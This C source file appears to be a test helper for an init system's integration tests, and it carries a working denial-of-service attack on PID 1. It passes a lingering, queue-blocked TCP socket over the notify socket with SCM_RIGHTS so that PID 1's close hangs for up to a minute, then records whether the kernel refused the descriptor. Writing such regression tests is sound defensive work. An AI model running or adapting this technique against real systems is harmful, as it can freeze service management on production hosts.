/* SPDX-License-Identifier: MIT */
/* linger FILE: a service that tries to freeze PID 1 through its notify
 * socket (tests/integration/74-notify-rights.t, tests/qemu/guest/linger.sh).
 *
 * A TCP connection on loopback whose data cannot leave: the peer (this
 * process) never reads and both buffers are small, so the sender's queue
 * stays full. SO_LINGER {1, 60} on the sending end: whoever drops its last
 * reference outside exit waits up to 60 s in close (inet_release). A
 * child sends that end over $NOTIFY_SOCKET with SCM_RIGHTS (and
 * STATUS=linger) and closes its copy at once, so that the receiver's is
 * the last; if the kernel refused it (SO_PASSRIGHTS), the child's exit
 * closes it, and exit skips the linger. ATTEMPTS times, a connection
 * each. Then FILE gets "sent" or "refused: errno N" (the last attempt's),
 * another datagram says READY=1, and this process waits, holding the
 * peers, until it is killed.
 *
 * Without a fix PID 1 closes the descriptor and hangs for a minute: the
 * READY=1 queued behind it, a watchdog, a stop, all wait. */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* connections, each sent once */
#define ATTEMPTS 10

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static socklen_t notify_address(struct sockaddr_un *a)
{
	const char *path = getenv("NOTIFY_SOCKET");

	if (!path || strlen(path) >= sizeof a->sun_path) {
		fputs("linger: NOTIFY_SOCKET is not set\n", stderr);
		exit(1);
	}
	memset(a, 0, sizeof *a);
	a->sun_family = AF_UNIX;
	strcpy(a->sun_path, path);
	return sizeof *a;
}

/* 0 once sent, else errno */
static int send_descriptor(int fd)
{
	union {
		struct cmsghdr h;
		char space[CMSG_SPACE(sizeof(int))];
	} u;
	char text[] = "STATUS=linger";
	struct iovec iov = { text, sizeof text - 1 };
	struct sockaddr_un a;
	struct msghdr msg = { .msg_name = &a, .msg_namelen = notify_address(&a),
			      .msg_iov = &iov, .msg_iovlen = 1,
			      .msg_control = u.space, .msg_controllen = sizeof u.space };
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof fd);
	return s < 0 || sendmsg(s, &msg, 0) < 0 ? errno : 0;
}

/* One attack, on a new connection to lsn (addr): 0 once sent, else the
 * errno of the sendmsg. The peer stays open (never read) for good. */
static int attack(int lsn, const struct sockaddr_in *addr)
{
	int small = 4096, sender, go[2], result[2], err = 0;
	struct linger lg = { 1, 60 };
	char block[1024] = { 0 };
	pid_t child;

	sender = socket(AF_INET, SOCK_STREAM, 0);
	if (sender < 0 || setsockopt(sender, SOL_SOCKET, SO_SNDBUF, &small, sizeof small) ||
	    connect(sender, (const struct sockaddr *)addr, sizeof *addr))
		fail("linger: connect");
	if (accept(lsn, NULL, NULL) < 0)
		fail("linger: accept");
	/* until the send queue is full: the peer's window is, and what is
	 * left cannot leave */
	fcntl(sender, F_SETFL, O_NONBLOCK);
	while (write(sender, block, sizeof block) > 0)
		;
	if (errno != EAGAIN)
		fail("linger: write");
	if (setsockopt(sender, SOL_SOCKET, SO_LINGER, &lg, sizeof lg))
		fail("linger: SO_LINGER");
	if (pipe(go) || pipe(result))
		fail("linger: pipe");
	child = fork();
	if (child < 0)
		fail("linger: fork");
	if (child == 0) {
		char c;

		/* once the parent let go of its copy: the child's and the
		 * receiver's are the only ones */
		if (read(go[0], &c, 1) != 1)
			_exit(1);
		err = send_descriptor(sender);
		/* The result first: if this child's close below turns out
		 * to be the last (the receiver dropped its copy sooner), the
		 * linger holds it up to 60 s, and a parent waiting for it
		 * would hold READY=1 back as long (seen on a loaded TCG
		 * guest: ready after 61 s). */
		(void)!write(result[1], &err, sizeof err);
		/* sent: the receiver's copy must be the last, so this one
		 * goes at once (if it is the last after all, the linger
		 * holds this child, which harms no one, and the next
		 * attempt may win); refused: exit closes it, and exit skips
		 * the linger */
		if (!err)
			close(sender);
		_exit(0);
	}
	close(sender); /* not the last: the child's is there */
	(void)!write(go[1], "g", 1);
	if (read(result[0], &err, sizeof err) != sizeof err)
		fail("linger: the child's result");
	close(go[0]);
	close(go[1]);
	close(result[0]);
	close(result[1]);
	return err;
}

int main(int argc, char **argv)
{
	struct sockaddr_in addr = { .sin_family = AF_INET,
				    .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof addr;
	int small = 4096, lsn, err = 0;
	struct sockaddr_un a;
	FILE *out;

	if (argc != 2) {
		fputs("usage: linger FILE\n", stderr);
		return 2;
	}
	lsn = socket(AF_INET, SOCK_STREAM, 0);
	/* a small window for the peers: set before listen, each accepted
	 * socket inherits it */
	if (lsn < 0 || setsockopt(lsn, SOL_SOCKET, SO_RCVBUF, &small, sizeof small) ||
	    bind(lsn, (struct sockaddr *)&addr, sizeof addr) || listen(lsn, ATTEMPTS) ||
	    getsockname(lsn, (struct sockaddr *)&addr, &len))
		fail("linger: listener (is lo up? --net none)");
	/* Which close comes last, the sender's or the receiver's, is a race;
	 * a few attempts and one is enough. */
	for (int i = 0; i < ATTEMPTS; i++) {
		struct timespec pause_ts = { 0, 20 * 1000 * 1000 };

		err = attack(lsn, &addr);
		nanosleep(&pause_ts, NULL);
	}
	out = fopen(argv[1], "w");
	if (!out)
		fail(argv[1]);
	if (err)
		fprintf(out, "refused: errno %d%s\n", err, err == EPERM ? " (EPERM)" : "");
	else
		fputs("sent\n", out);
	fclose(out);
	if (sendto(socket(AF_UNIX, SOCK_DGRAM, 0), "READY=1", 7, 0, (struct sockaddr *)&a,
		   notify_address(&a)) < 0)
		fail("linger: READY=1");
	for (;;)
		pause();
}
